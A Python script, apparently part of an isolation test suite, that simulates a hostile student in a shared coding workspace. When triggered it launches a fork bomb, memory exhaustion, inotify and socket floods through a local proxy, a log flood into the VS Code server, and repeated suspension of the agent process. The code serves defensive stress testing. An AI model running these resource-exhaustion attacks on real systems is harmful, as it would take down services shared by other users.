"""What one hostile student runs in their own workspace, all at once, while a file called `attack`
is there. It uses nothing but the standard library, and it is copied into the student's home.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import time
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).parent
PROXY = ("127.0.0.1", 3128)
SOCKETS_MAX = 400
AGENT_SILENT_S, AGENT_ANSWERS_S = 3.0, 2.0


def fork_bomb() -> None:
    """As many processes as there may be, each busy."""
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            time.sleep(0.05)


def memory() -> None:
    """Children that take memory until the kernel ends them; files in memory count as well."""
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                Path("/proc/self/oom_score_adj").write_text("1000")
                held = []
                while True:
                    held.append(bytearray(os.urandom(1 << 20)) * 16)
            os.wait()
        time.sleep(0.2)


def watches() -> None:
    """Every inotify instance that can be had."""
    library = ctypes.CDLL(None)
    while True:
        if library.inotify_init1(0) < 0:
            time.sleep(0.2)


def look_ups() -> None:
    """Names that nobody answers, and connections that say nothing, through the way out."""
    held: list[socket.socket] = []
    number = 0
    while True:
        number += 1
        with contextlib.suppress(OSError):
            one = socket.create_connection(PROXY, 5)
            if number % 2:
                name = f"{number}-{os.getpid()}.nobody.example"
                one.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
            held.append(one)
        while len(held) > SOCKETS_MAX:
            held.pop(0).close()
        time.sleep(0.005)


def log_flood() -> None:
    """Into the output of VS Code's server, which is the agent's; the shim keeps the end of it."""
    server = next(pid for pid in _pids() if b"server.js" in _command(pid))
    line = b"x" * 4000 + b"\n"
    with open(f"/proc/{server}/fd/1", "wb", buffering=0) as log:  # noqa: PTH123
        while True:
            log.write(line)


def silent_agent() -> None:
    """An agent that does not answer the manager, again and again."""
    agent = next(pid for pid in _pids() if b"task.py" in _command(pid) and b"bwrap" not in _command(pid))
    while True:
        os.kill(agent, signal.SIGSTOP)
        time.sleep(AGENT_SILENT_S)
        os.kill(agent, signal.SIGCONT)
        time.sleep(AGENT_ANSWERS_S)


PARTS = (watches, look_ups, log_flood, silent_agent, memory, fork_bomb)
"""The fork bomb is last: nobody can start another process after it."""


def main() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, hard), hard))
    while True:
        if (HERE / "attack").exists():
            groups = [_begin(part) for part in PARTS]
            (HERE / "attacking").write_text(json.dumps(groups))
            while (HERE / "attack").exists():
                time.sleep(0.2)
            for group in groups:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(group, signal.SIGKILL)
            _wake_agent()
            (HERE / "attacking").unlink()
        while True:
            with contextlib.suppress(ChildProcessError):
                if os.waitpid(-1, os.WNOHANG)[0]:
                    continue
            break
        time.sleep(0.2)


def _begin(part: Callable[[], None]) -> int:
    pid = os.fork()
    if pid == 0:
        os.setpgid(0, 0)
        try:
            part()
        except BaseException as problem:  # noqa: BLE001  the report says which part did not run
            (HERE / f"failed-{part.__name__}").write_text(repr(problem))
        os._exit(1)
    with contextlib.suppress(OSError):
        os.setpgid(pid, pid)
    return pid


def _wake_agent() -> None:
    for pid in _pids():
        if b"task.py" in _command(pid):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGCONT)


def _pids() -> list[int]:
    return [int(path.name) for path in Path("/proc").iterdir() if path.name.isdecimal()]


def _command(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


if __name__ == "__main__":
    main()
